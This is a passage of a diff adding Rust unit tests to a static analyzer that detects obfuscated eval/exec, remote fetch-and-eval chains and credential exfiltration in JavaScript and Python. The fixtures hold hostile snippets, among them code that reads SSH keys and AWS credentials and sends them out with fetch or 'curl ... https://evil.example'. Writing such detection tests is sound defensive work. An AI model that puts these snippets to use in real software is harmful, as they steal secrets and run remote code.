         assert!(!result.findings.is_empty());
-        assert!(result.findings.iter().any(|f| f.rule_id == "AST-EXEC-004"));
+        assert!(result.findings.iter().any(|f| f.rule_id == "AST-SHELL-002"
+            && f.metadata.get("technique").map(String::as_str) == Some("inline_require")));
     }
 
     #[test]
-    fn test_destructured_alias_detection() {
+    fn test_require_member_access_aliased_variable_detection() {
         let mut analyzer = AstAnalyzer::new().unwrap();
         let file = create_temp_file(
-            r#"const {exec: run} = require('child_process'); run('ls')"#,
+            r#"const cp = require('child_process'); cp['spawn']('ls')"#,
             ".js",
         );
 
         let result = analyzer.analyze_file(file.path()).unwrap();
         assert!(!result.findings.is_empty());
-        assert!(result.findings.iter().any(|f| f.rule_id == "AST-SHELL-001"));
+        assert!(result.findings.iter().any(|f| f.rule_id == "AST-SHELL-002"
+            && f.metadata.get("technique").map(String::as_str) == Some("aliased_import")));
+    }
+
+    #[test]
+    fn test_require_member_access_safe_export_not_flagged() {
+        let mut analyzer = AstAnalyzer::new().unwrap();
+        let file = create_temp_file(r#"const os = require('os'); os['platform']()"#, ".js");
+
+        let result = analyzer.analyze_file(file.path()).unwrap();
+        assert!(!result.findings.iter().any(|f| f.rule_id == "AST-SHELL-002"));
+    }
+
+    #[test]
+    fn test_remote_fetch_exec_chain_fetch_text_eval_detection() {
+        let mut analyzer = AstAnalyzer::new().unwrap();
+        let file = create_temp_file(
+            r#"async function run(url) {
+                const res = await fetch(url);
+                const code = await res.text();
+                eval(code);
+            }"#,
+            ".js",
+        );
+
+        let result = analyzer.analyze_file(file.path()).unwrap();
+        assert!(!result.findings.is_empty());
+        assert!(result.findings.iter().any(|f| f.rule_id == "AST-EXEC-016"
+            && f.metadata.get("sink").map(String::as_str) == Some("eval")));
+    }
+
+    #[test]
+    fn test_remote_fetch_exec_chain_axios_data_inline_detection() {
+        let mut analyzer = AstAnalyzer::new().unwrap();
+        let file = create_temp_file(
+            r#"async function run(url) {
+                const res = await axios.get(url);
+                eval(res.data);
+            }"#,
+            ".js",
+        );
+
+        let result = analyzer.analyze_file(file.path()).unwrap();
+        assert!(!result.findings.is_empty());
+        assert!(result.findings.iter().any(|f| f.rule_id == "AST-EXEC-016"
+            && f.metadata.get("remote_source").map(String::as_str) == Some("axios.get.data")));
+    }
+
+    #[test]
+    fn test_remote_fetch_exec_chain_no_finding_without_exec_sink() {
+        let mut analyzer = AstAnalyzer::new().unwrap();
+        let file = create_temp_file(
+            r#"async function run(url) {
+                const res = await fetch(url);
+                const body = await res.json();
+                console.log(body);
+            }"#,
+            ".js",
+        );
+
+        let result = analyzer.analyze_file(file.path()).unwrap();
+        assert!(!result.findings.iter().any(|f| f.rule_id == "AST-EXEC-016"));
+    }
+
+    #[test]
+    fn test_sensitive_file_exfil_chain_ssh_key_to_fetch_detection() {
+        let mut analyzer = AstAnalyzer::new().unwrap();
+        let file = create_temp_file(
+            r#"const fs = require('fs');
+            function steal(url) {
+                const key = fs.readFileSync('/home/user/.ssh/id_rsa');
+                fetch(url, { method: 'POST', body: key });
+            }"#,
+            ".js",
+        );
+
+        let result = analyzer.analyze_file(file.path()).unwrap();
+        assert!(!result.findings.is_empty());
+        assert!(result.findings.iter().any(|f| f.rule_id == "AST-EXFIL-001"
+            && f.metadata.get("source_pattern").map(String::as_str) == Some("ssh_private_key")
+            && f.metadata.get("sink").map(String::as_str) == Some("network")));
+    }
+
+    #[test]
+    fn test_sensitive_file_exfil_chain_aws_creds_to_child_process_detection() {
+        let mut analyzer = AstAnalyzer::new().unwrap();
+        let file = create_temp_file(
+            r#"const { exec } = require('child_process');
+            function steal() {
+                const creds = fs.readFileSync('/home/user/.aws/credentials');
+                exec('curl -d ' + creds + ' https://evil.example');
+            }"#,
+            ".js",
+        );
+
+        let result = analyzer.analyze_file(file.path()).unwrap();
+        assert!(!result.findings.is_empty());
+        assert!(result.findings.iter().any(|f| f.rule_id == "AST-EXFIL-001"
+            && f.metadata.get("source_pattern").map(String::as_str) == Some("aws_credentials")
+            && f.metadata.get("sink").map(String::as_str) == Some("child_process")));
+    }
+
+    #[test]
+    fn test_sensitive_file_exfil_chain_safe_file_not_flagged() {
+        let mut analyzer = AstAnalyzer::new().unwrap();
+        let file = create_temp_file(
+            r#"const fs = require('fs');
+            function loadConfig(url) {
+                const config = fs.readFileSync('/etc/app/config.json');
+                fetch(url, { method: 'POST', body: config });
+            }"#,
+            ".js",
+        );
+
+        let result = analyzer.analyze_file(file.path()).unwrap();
+        assert!(!result.findings.iter().any(|f| f.rule_id == "AST-EXFIL-001"));
     }
 
     #[test]
@@ -420,6 +2229,270 @@ mod tests {
         assert!(!result.findings.is_empty());
     }
 
+    #[test]
+    fn test_jsx_support() {
+        let mut analyzer = AstAnalyzer::new().unwrap();
+        let file = create_temp_file(
+            r#"
+            const App = () => <div onClick={() => window['eval']('alert(1)')}>hi</div>;
+            "#,
+            ".jsx",
+        );
+
+        let result = analyzer.analyze_file(file.path()).unwrap();
+        assert!(!result.findings.is_empty());
+    }
+
+    #[test]
+    fn test_tsx_support() {
+        let mut analyzer = AstAnalyzer::new().unwrap();
+        let file = create_temp_file(
+            r#"
+            const App = (): JSX.Element => <div onClick={() => window['eval']('alert(1)')}>hi</div>;
+            "#,
+            ".tsx",
+        );
+
+        let result = analyzer.analyze_file(file.path()).unwrap();
+        assert!(!result.findings.is_empty());
+    }
+
+    #[test]
+    fn test_ast_findings_are_high_confidence() {
+        let mut analyzer = AstAnalyzer::new().unwrap();
+        let file = create_temp_file("window['eval']('alert(1)')", ".js");
+
+        let result = analyzer.analyze_file(file.path()).unwrap();
+        assert!(!result.findings.is_empty());
+        assert!(result
+            .findings
+            .iter()
+            .all(|f| f.confidence == Confidence::High));
+    }
+
+    #[test]
+    fn test_python_variable_aliasing_detection() {
+        let mut analyzer = AstAnalyzer::new().unwrap();
+        let file = create_temp_file(
+            r#"
+            e = eval
+            e('__import__("os").system("ls")')
+            "#,
+            ".py",
+        );
+
+        let result = analyzer.analyze_file(file.path()).unwrap();
+        assert!(!result.findings.is_empty());
+        assert!(result.findings.iter().any(|f| f.rule_id == "AST-EXEC-006"));
+    }
+
+    #[test]
+    fn test_python_variable_aliasing_reassignment_inside_block_detected() {
+        // `f` is reassigned to `eval` inside an `if` block; Python's `block`
+        // node (used for `if`/`for`/`while` bodies, not just function
+        // bodies) is a scope boundary in this tracker, so the reassignment
+        // must still be visible to the call after the block ends.
+        let mut analyzer = AstAnalyzer::new().unwrap();
+        let file = create_temp_file(
+            r#"
+            f = print
+            if True:
+                f = eval
+            f('__import__("os").system("ls")')
+            "#,
+            ".py",
+        );
+
+        let result = analyzer.analyze_file(file.path()).unwrap();
+        assert!(result.findings.iter().any(|f| f.rule_id == "AST-EXEC-006"));
+    }
+
+    #[test]
+    fn test_python_exec_aliasing_detection() {
+        let mut analyzer = AstAnalyzer::new().unwrap();
+        let file = create_temp_file(
+            r#"
+            f = exec
+            f(payload)
+            "#,
+            ".py",
+        );
+
+        let result = analyzer.analyze_file(file.path()).unwrap();
+        assert!(!result.findings.is_empty());
+        assert!(result.findings.iter().any(|f| f.rule_id == "AST-EXEC-006"));
+    }
+
+    #[test]
+    fn test_python_dict_lookup_aliasing_detection() {
+        let mut analyzer = AstAnalyzer::new().unwrap();
+        let file = create_temp_file(
+            r#"
+            funcs = {'run': eval, 'noop': None}
+            funcs['run'](payload)
+            "#,
+            ".py",
+        );
+
+        let result = analyzer.analyze_file(file.path()).unwrap();
+        assert!(!result.findings.is_empty());
+        assert!(result.findings.iter().any(|f| f.rule_id == "AST-EXEC-006"
+            && f.metadata.get("technique").map(String::as_str) == Some("dict_lookup_aliasing")));
+    }
+
+    #[test]
+    fn test_python_no_false_positive_for_direct_eval_call() {
+        let mut analyzer = AstAnalyzer::new().unwrap();
+        let file = create_temp_file("eval('1 + 1')", ".py");
+
+        let result = analyzer.analyze_file(file.path()).unwrap();
+        assert!(result.findings.iter().all(|f| f.rule_id != "AST-EXEC-006"));
+    }
+
+    #[test]
+    fn test_python_getattr_obfuscation_detection() {
+        let mut analyzer = AstAnalyzer::new().unwrap();
+        let file = create_temp_file("getattr(__builtins__, 'ev' + 'al')(payload)", ".py");
+
+        let result = analyzer.analyze_file(file.path()).unwrap();
+        assert!(!result.findings.is_empty());
+        assert!(result.findings.iter().any(|f| f.rule_id == "AST-EXEC-007"));
+    }
+
+    #[test]
+    fn test_python_globals_lookup_detection() {
+        let mut analyzer = AstAnalyzer::new().unwrap();
+        let file = create_temp_file("globals()['exec'](payload)", ".py");
+
+        let result = analyzer.analyze_file(file.path()).unwrap();
+        assert!(!result.findings.is_empty());
+        assert!(result.findings.iter().any(|f| f.rule_id == "AST-EXEC-007"));
+    }
+
+    #[test]
+    fn test_python_vars_lookup_detection() {
+        let mut analyzer = AstAnalyzer::new().unwrap();
+        let file = create_temp_file("vars(os)['system']('id')", ".py");
+
+        let result = analyzer.analyze_file(file.path()).unwrap();
+        assert!(!result.findings.is_empty());
+        assert!(result.findings.iter().any(|f| f.rule_id == "AST-EXEC-007"));
+    }
+
+    #[test]
+    fn test_python_no_false_positive_for_safe_getattr() {
+        let mut analyzer = AstAnalyzer::new().unwrap();
+        let file = create_temp_file("getattr(obj, 'name')", ".py");
+
+        let result = analyzer.analyze_file(file.path()).unwrap();
+        assert!(result.findings.iter().all(|f| f.rule_id != "AST-EXEC-007"));
+    }
+
+    #[test]
+    fn test_python_base64_decode_exec_chain_detection() {
+        let mut analyzer = AstAnalyzer::new().unwrap();
+        let file = create_temp_file("payload = base64.b64decode(data)\nexec(payload)", ".py");
+
+        let result = analyzer.analyze_file(file.path()).unwrap();
+        assert!(!result.findings.is_empty());
+        assert!(result.findings.iter().any(|f| f.rule_id == "AST-EXEC-008"));
+    }
+
+    #[test]
+    fn test_python_zlib_decompress_eval_chain_detection() {
+        let mut analyzer = AstAnalyzer::new().unwrap();
+        let file = create_temp_file("code = zlib.decompress(data)\neval(code)", ".py");
+
+        let result = analyzer.analyze_file(file.path()).unwrap();
+        assert!(!result.findings.is_empty());
+        assert!(result.findings.iter().any(|f| f.rule_id == "AST-EXEC-008"));
+    }
+
+    #[test]
+    fn test_python_codecs_decode_compile_chain_detection() {
+        let mut analyzer = AstAnalyzer::new().unwrap();
+        let file = create_temp_file(
+            "src = codecs.decode(data, 'rot13')\ncompile(src, '<string>', 'exec')",
+            ".py",
+        );
+
+        let result = analyzer.analyze_file(file.path()).unwrap();
+        assert!(!result.findings.is_empty());
+        assert!(result.findings.iter().any(|f| f.rule_id == "AST-EXEC-008"));
+    }
+
+    #[test]
+    fn test_python_no_false_positive_for_decode_without_exec() {
+        let mut analyzer = AstAnalyzer::new().unwrap();
+        let file = create_temp_file("payload = base64.b64decode(data)\nprint(payload)", ".py");
+
+        let result = analyzer.analyze_file(file.path()).unwrap();
+        assert!(result.findings.iter().all(|f| f.rule_id != "AST-EXEC-008"));
+    }
+
+    #[test]
+    fn test_python_no_false_positive_for_direct_exec_of_plain_variable() {
+        let mut analyzer = AstAnalyzer::new().unwrap();
+        let file = create_temp_file("payload = get_config()\nexec(payload)", ".py");
+
+        let result = analyzer.analyze_file(file.path()).unwrap();
+        assert!(result.findings.iter().all(|f| f.rule_id != "AST-EXEC-008"));
+    }
+
+    #[test]
+    fn test_js_atob_eval_chain_detection() {
+        let mut analyzer = AstAnalyzer::new().unwrap();
+        let file = create_temp_file("const payload = atob(data);\neval(payload);", ".js");
+
+        let result = analyzer.analyze_file(file.path()).unwrap();
+        assert!(!result.findings.is_empty());
+        assert!(result.findings.iter().any(|f| f.rule_id == "AST-EXEC-009"));
+    }
+
+    #[test]
+    fn test_js_buffer_from_base64_function_chain_detection() {
+        let mut analyzer = AstAnalyzer::new().unwrap();
+        let file = create_temp_file(
+            "const code = Buffer.from(data, 'base64').toString();\nFunction(code)();",
+            ".js",
+        );
+
+        let result = analyzer.analyze_file(file.path()).unwrap();
+        assert!(!result.findings.is_empty());
+        assert!(result.findings.iter().any(|f| f.rule_id == "AST-EXEC-009"));
+    }
+
+    #[test]
+    fn test_js_text_decoder_vm_run_in_context_chain_detection() {
+        let mut analyzer = AstAnalyzer::new().unwrap();
+        let file = create_temp_file(
+            "const src = new TextDecoder().decode(bytes);\nvm.runInContext(src, ctx);",
+            ".js",
+        );
+
+        let result = analyzer.analyze_file(file.path()).unwrap();
+        assert!(!result.findings.is_empty());
+        assert!(result.findings.iter().any(|f| f.rule_id == "AST-EXEC-009"));
+    }
+
+    #[test]
+    fn test_js_no_false_positive_for_decode_without_exec() {
+        let mut analyzer = AstAnalyzer::new().unwrap();
+        let file = create_temp_file("const payload = atob(data);\nconsole.log(payload);", ".js");
+
+        let result = analyzer.analyze_file(file.path()).unwrap();
+        assert!(result.findings.iter().all(|f| f.rule_id != "AST-EXEC-009"));
+    }
+
+    #[test]
+    fn test_js_no_false_positive_for_direct_eval_of_plain_variable() {
+        let mut analyzer = AstAnalyzer::new().unwrap();
+        let file = create_temp_file("const payload = getConfig();\neval(payload);", ".js");
+
+        let result = analyzer.analyze_file(file.path()).unwrap();
+        assert!(result.findings.iter().all(|f| f.rule_id != "AST-EXEC-009"));
+    }
+
     #[test]
     fn test_no_false_positives_for_safe_code() {
         let mut analyzer = AstAnalyzer::new().unwrap();